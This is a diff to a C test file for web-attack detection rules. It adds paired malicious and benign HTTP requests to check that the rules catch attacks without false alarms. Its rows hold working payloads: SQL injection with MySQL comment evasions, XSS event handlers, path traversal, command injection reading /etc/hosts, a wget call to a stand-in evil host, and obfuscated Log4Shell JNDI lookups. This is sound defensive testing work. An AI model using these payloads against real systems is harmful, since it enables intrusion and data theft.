@@ -67,11 +67,30 @@ static const struct row rows[] = {
 	  GET("/search?q=credit+union+select+account") },
 	{ 100100, POST("/search", "q=x%27%20union%20select%20version()"),
 	  POST("/search", "q=union+rates&select=savings") },
+	/* MySQL separators: # and -- comments to the line end, versioned
+	 * comments, DISTINCTROW, a user keyword for a column */
+	{ 100100, GET("/item?id=1+UNION%23x%0aSELECT+1,2"),
+	  GET("/search?q=union%2342+select+committee") },
+	{ 100100, GET("/item?id=1+UNION--+x%0aSELECT+1,2"),
+	  GET("/search?q=credit+union--select+a+plan") },
+	{ 100100, GET("/item?id=1+/*!50000UNION*/+SELECT+1,2"),
+	  GET("/search?q=/*!50000unions*/+selected") },
+	{ 100100, GET("/item?id=1+UNION+/*!SELECT*/+1,2"),
+	  GET("/search?q=union+/*!selection*/+1") },
+	{ 100100, GET("/item?id=1+UNION+DISTINCTROW+SELECT+1,2"),
+	  GET("/search?q=union+distinctrow+selection+guide") },
+	{ 100100, GET("/item?id=-1+UNION+SELECT+current_user"),
+	  GET("/search?q=union+select+current+user+list") },
 	{ 100101, GET("/login?user=admin'+or+'1'='1"),
 	  GET("/search?q=tea'+or+'coffee'='tea") },
 	{ 100101, GET("/item?id=1+or+1=1"), GET("/item?id=1+or+1=10") },
 	{ 100101, HDR("Cookie", "session=x' OR 'a'='a"),
 	  HDR("Cookie", "session=ab12cd34; theme=dark") },
+	/* no blank after or / || when a quote or a digit follows */
+	{ 100101, GET("/login?user=admin'or'1'='1"),
+	  GET("/login?user=admin'or'1'='2") },
+	{ 100101, GET("/login?user=admin'||1=1--"),
+	  GET("/login?user=admin'||1=12") },
 	{ 100102, GET("/item?id=1+and+sleep(5)"),
 	  GET("/search?q=sleep+(8+hours)+a+night") },
 	{ 100102, GET("/item?id=1;select+benchmark(1000000,md5(1))"),
@@ -91,15 +110,30 @@ static const struct row rows[] = {
 	  GET("/search?q=javascript:+the+good+parts") },
 	{ 100201, GET("/go?url=JaVaScRiPt:window['al'%2B'ert'](1)"),
 	  GET("/go?url=https://example.com/javascript/") },
+	/* javascript:void(0) is the do-nothing link of every web page */
+	{ 100201, GET("/go?url=javascript:void(alert(1))"),
+	  POST("/post", "html=<a+href=\"javascript:void(0)\">x</a>") },
+	{ 100201, GET("/go?url=javascript:void(0);alert(1)"),
+	  POST("/post", "html=<a+href=\"javascript:void(0);\">menu</a>") },
+	{ 100201, GET("/go?url=javascript:eval(atob('YQ'))"),
+	  GET("/go?url=javascript:void+0") },
 	{ 100202, GET("/search?q=<img+src=x+onerror=alert(1)>"),
 	  GET("/search?q=onerror=retry") },
 	{ 100202, GET("/c?m=<svg/onload=alert(1)>"),
 	  GET("/c?m=<b>online=yes</b>") },
+	{ 100202, GET("/search?q=<input+autofocus+onfocusin=alert(1)>"),
+	  GET("/search?q=<p>onfocusin=fired</p>") },
+	{ 100202, GET("/search?q=<body+onpageshow=alert(1)>"),
+	  GET("/c?m=<a+class=online+href=/on>x</a>") },
 	/* 1003xx path traversal, local file inclusion */
 	{ 100300, GET("/download?file=..%2F..%2F..%2Fapp.conf"),
 	  GET("/docs?see=../guide") },
 	{ 100300, GET("/download?file=..\\..\\boot"),
 	  GET("/search?q=wait...+for+it/") },
+	{ 100300, GET("/download?file=..//..//..//app/config.yml"),
+	  GET("/docs?see=..//guide") },
+	{ 100300, GET("/download?file=..;/..;/app/config.yml"),
+	  GET("/search?q=wait..;/+ok") },
 	{ 100301, GET("/view?page=/etc/passwd"),
 	  GET("/account/etc/password-reset") },
 	{ 100301, GET("/view?page=....//....//proc/self/environ"),
@@ -109,12 +143,21 @@ static const struct row rows[] = {
 	  GET("/search?q=dogs;+cat+pictures") },
 	{ 100400, GET("/ping?host=x|tail+-n+5+/var/log/syslog"),
 	  GET("/search?q=head+and+tail+of+a+list") },
+	/* after a line feed, only a command that ends with its file */
+	{ 100400, GET("/ping?host=127.0.0.1%0acat+/etc/hosts"),
+	  POST("/post", "body=To+check+run%0acat+/etc/os-release+and+paste") },
+	{ 100400, POST("/ping", "host=1%0d%0ahead+-5+/etc/hosts+2>%261%0d%0a"),
+	  POST("/post", "body=see%0d%0amore+/home/alice/notes+for+details") },
 	{ 100401, GET("/ping?host=1.2.3.4|wget+http://evil.example/x.sh"),
 	  GET("/search?q=curl+https://example.com+tutorial") },
 	{ 100401, GET("/ping?host=x%26%26whoami"),
 	  GET("/search?q=whoami+command") },
 	{ 100401, GET("/ping?host=x;+bash+-i"),
 	  GET("/search?q=bash+-i+flag+meaning") },
+	/* a bare id is a field list or a cookie flag, not a command */
+	{ 100401, GET("/ping?host=x;/bin/id"),
+	  GET("/api/items?fields=name|id") },
+	{ 100401, GET("/ping?host=x|id+-u"), HDR("Cookie", "lang=en; id") },
 	{ 100402, GET("/ping?host=$(whoami)"),
 	  GET("/search?q=costs+$(5)+each") },
 	{ 100403, GET("/ping?host=`id`"), GET("/search?q=the+`cat`+command") },
@@ -125,6 +168,12 @@ static const struct row rows[] = {
 	  GET("/search?q=jndi:+lookup+docs") },
 	{ 100500, GET("/?x=%24%7Bjndi%3Armi%3A%2F%2Fx%2Fa%7D"),
 	  GET("/?tpl=%24%7Bname%7D") },
+	/* any lookup nested in another */
+	{ 100500, HDR("X-Api-Version", "${${base64:SmFWYQ==}ndi:ldap://x/a}"),
+	  HDR("X-Template", "${user}${lang:en}") },
+	{ 100500,
+	  HDR("X-Api-Version", "${${k8s:k5:-J}${k8s:k5:-ndi}:ldap://x/a}"),
+	  HDR("X-Template", "${greeting:-hello}") },
 	/* 1006xx scanners */
 	{ 100600, HDR("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
 	  HDR("User-Agent", "Mozilla/5.0 (compatible; sql-map-viewer/1.0)") },
@@ -155,6 +204,13 @@ static const struct probe benign[] = {
 	HDR("Accept", "application/json, text/plain, */*"),
 	HDR("User-Agent", "curl/7.88.1"),
 	HDR("User-Agent", CHROME),
+	GET("/api/items?fields=title;id"),
+	GET("/api/items?fields=id,name&sort=id|desc"),
+	HDR("Cookie", "_ga=GA1.2.1234.5678; _gid=GA1.2.99; id=5"),
+	HDR("Accept-Encoding", "gzip, deflate, br"),
+	POST("/api", "{\"name\":\"x\",\"tags\":[\"a\",\"b\"],"
+		     "\"q\":\"shoes and boots\"}"),
+	POST("/post", "text=Line+one%0d%0aLine+two%0d%0a%0d%0aThanks"),
 };
 
 struct defset {
@@ -199,6 +255,8 @@ static int teardown(void **state)
 {
 	struct defset *d = *state;
 
+	if (!d)
+		return 0;
 	tset_free(&d->t);
 	free(d);
 	return 0;
